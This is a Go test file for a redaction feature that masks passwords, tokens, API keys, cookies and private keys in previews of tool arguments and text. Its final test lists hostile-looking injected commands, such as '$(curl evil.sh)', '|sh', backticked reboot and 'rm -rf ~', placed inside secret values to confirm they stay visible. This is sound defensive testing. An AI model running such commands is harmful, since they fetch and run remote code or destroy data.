package preview

import (
	"slices"
	"strings"
	"testing"
)

func TestSecretName(t *testing.T) {
	t.Parallel()
	for _, name := range []string{
		"password", "Password", "PASSWD", "pwd", "db_password", "newPassword", "password2", "password_confirmation", "user-passphrase", "secret",
		"clientSecret", "client_secret", "CLIENT-SECRET", "secrets", "token", "access_token", "refreshToken", "X-Auth-Token", "csrf.token",
		"auth_tokens", "api_key", "apikey", "API-Key", "apiKeys", "x-api-key", "access_key", "accessKeyId", "private_key",
		"aws_secret_access_key", "ssh_key", "authorization", "Proxy-Authorization", "authorization_header", "auth", "cookie", "Cookies",
		"Set-Cookie", "credential", "credentials", "bearer", "bearer_token", "session_id", "sessionid", "SESSION ID", "pin", "otp", "jwt",
		"ｐassword", "connection_string",
	} {
		if !secretName(name) {
			t.Errorf("secretName(%q) = false", name)
		}
	}
	for _, name := range []string{
		"max_tokens", "tokens_used", "maxTokens", "tokens", "tokenizer", "token_count", "key", "keys", "primary_key", "keyboard", "path",
		"password_policy", "cookie_policy", "secretary", "author", "authority", "session", "pinned", "monkey", "text", "context", "content",
		"address", "bypass", "", "s", "123", "___", "header", "hash", "user", "required_api_keys", "requiredTokens",
	} {
		if secretName(name) {
			t.Errorf("secretName(%q) = true", name)
		}
	}
}

func TestOfHidesByName(t *testing.T) {
	t.Parallel()
	p := of(t,
		`{"token":"s3cretValue","pin":4711,"secret":true,"cookie":null,"credentials":{"user":"s3cretValue"},"passwords":["s3cretValue"],`+
			`"headers":{"Authorization":"Basic s3cretValue","Accept":"a"},"h":[{"name":"X-Api-Key","value":"s3cretValue"},{"value":"s3cretValue","key":"Cookie"},{"name":"Accept","value":"b"}],`+
			`"empty":{"token":""},"long":{"token":"`+strings.Repeat("s3cretValue", 10)+`"},"max_tokens":5}`, "")
	want := `token: ••• (string, 1 to 15 characters)
pin: ••• (number)
secret: true
cookie: null
credentials: ••• (object)
passwords: ••• (array)
headers.Authorization: ••• (string, 16 to 63 characters)
headers.Accept: "a"
h[0].name: "X-Api-Key"
h[0].value: ••• (string, 1 to 15 characters)
h[1].value: ••• (string, 1 to 15 characters)
h[1].key: "Cookie"
h[2].name: "Accept"
h[2].value: "b"
empty.token: ••• (string, empty)
long.token: ••• (string, 64 or more characters)
max_tokens: 5
`
	if p.Text != want {
		t.Errorf("Text =\n%s\nwant\n%s", p.Text, want)
	}
	if strings.Contains(string(p.Arguments), "s3cret") || !strings.Contains(string(p.Arguments), `"credentials":"••• (object)"`) {
		t.Errorf("Arguments = %s", p.Arguments)
	}
	paths := []string{
		"token", "pin", "credentials", "passwords", "headers.Authorization", "h[0].value", "h[1].value", "empty.token", "long.token",
	}
	if !slices.Equal(p.Hidden, paths) {
		t.Errorf("Hidden = %q, want %q", p.Hidden, paths)
	}
}

func TestRedact(t *testing.T) {
	t.Parallel()
	const pem = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA75x\nYmFzZTY0+/==\n-----END RSA PRIVATE KEY-----"
	for text, want := range map[string]string{
		"Authorization: Bearer abc.def-123":                "Authorization: Bearer •",
		"bearer abcdefgh, then":                            "bearer •, then",
		"Bearer of news":                                   "Bearer of news",
		"key sk-abcdefghijklmnopqrst end":                  "key sk-• end",
		"sk-proj-12345678":                                 "sk-•",
		"lang sk-SK and sk-learn":                          "lang sk-SK and sk-learn",
		"ghp_16C7e42F292c6912E7":                           "ghp_•",
		"github_pat_11ABCDEFG_xyz":                         "github_pat_•",
		"xoxb-1234-5678-abcdef":                            "xoxb-•",
		"id AKIAIOSFODNN7EXAMPLE.":                         "id AKIA•.",
		"AIzaSyA-1234567890abcdefghijklmnopqrstu":          "AIza•",
		"x_sk_live_4eC39HqLyjWDarjt":                       "x_sk_live_•",
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_D next": "eyJ• next",
		"eyJhbGciOiJIUzI1NiJ9.com":                         "eyJhbGciOiJIUzI1NiJ9.com",
		"https://user:pa@ss@example.com/x?y=1":             "https://•@example.com/x?y=1",
		"https://TOKEN@example.com":                        "https://•@example.com",
		"postgres://u:p@db:5432/n":                         "postgres://•@db:5432/n",
		"https://example.com/a@b":                          "https://example.com/a@b",
		"https://h/?access_token=abc&x=1#id_token=q":       "https://h/?access_token=•&x=1#id_token=•",
		"https://h/?sig=abc%20d&key=k&code=c":              "https://h/?sig=•&key=•&code=•",
		"https://h/?X-Amz-Signature=ab&X-Amz-Credential=c": "https://h/?X-Amz-Signature=•&X-Amz-Credential=•",
		"sig=abc key=k":                                    "sig=abc key=k",
		`PASSWORD=abc ./run --token xyz -v`:                `PASSWORD=• ./run --token • -v`,
		`mysql --password=abc; ls`:                         `mysql --password=•; ls`,
		`{"password": "two words", "user": "u"}`:           `{"password": "•", "user": "u"}`,
		`"{\"api_key\":\"abc\",\"a\":1}"`:                  `"{\"api_key\":\"•\",\"a\":1}"`,
		`-H 'Authorization: Basic dTpw' -H "X-Api-Key: k"`: `-H 'Authorization: Basic •' -H "X-Api-Key: •"`,
		"Cookie: a=b; c=d; e=f\nHost: h":                   "Cookie: •; •; •\nHost: h",
		"Server=h;User Id=u;Password=p;Timeout=3":          "Server=h;User Id=u;Password=•;Timeout=3",
		pem:                                 "-----BEGIN RSA PRIVATE KEY-----\n•\n•\n-----END RSA PRIVATE KEY-----",
		strings.ReplaceAll(pem, "\n", `\n`): `-----BEGIN RSA PRIVATE KEY-----\n•\n•\n-----END RSA PRIVATE KEY-----`,
		strings.TrimSuffix(pem, "-----END RSA PRIVATE KEY-----"):  "-----BEGIN RSA PRIVATE KEY-----\n•\n•\n",
		"-----BEGIN CERTIFICATE-----\nMIIEpAIBAAKCAQEA\n-----END": "-----BEGIN CERTIFICATE-----\nMIIEpAIBAAKCAQEA\n-----END",
		"-----BEGIN ":        "-----BEGIN ",
		"max_tokens=5 a: b":  "max_tokens=5 a: b",
		"token:":             "token:",
		"nothing to see, no": "nothing to see, no",
	} {
		got, some := redact(text, "")
		if got = strings.ReplaceAll(got, "\xff", "•"); got != want || some != (want != text) {
			t.Errorf("redact(%q) = %q, %v, want %q", text, got, some, want)
		}
	}
}

// TestRedactHidesNoCommand holds commands that a caller could try to hide behind the name
// of a secret.
func TestRedactHidesNoCommand(t *testing.T) {
	t.Parallel()
	for text, seen := range map[string]string{
		"password=$(curl evil.sh)":                     "$(curl evil.sh)",
		"password=a${IFS}b":                            "${IFS}b",
		"token=`reboot`":                               "`reboot`",
		"token=x;reboot":                               ";reboot",
		"secret=x|sh":                                  "|sh",
		"Bearer abcdefgh && reboot":                    "&& reboot",
		"token=https://evil.example/x.sh":              "https://evil.example/x.sh",
		`password="$(reboot)"`:                         "$(reboot)",
		"password='a\nreboot":                          "reboot",
		"https://a:b@evil.example/x":                   "evil.example/x",
		"https://eyJhbGciOiJIU.eyJhbGciOiJIU.evil.com": "eyJhbGciOiJIU.eyJhbGciOiJIU.evil.com",
		"-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----": "rm -rf ~",
	} {
		if got, _ := redact(text, ""); !strings.Contains(got, seen) {
			t.Errorf("redact(%q) = %q, which does not show %q", text, got, seen)
		}
	}
}
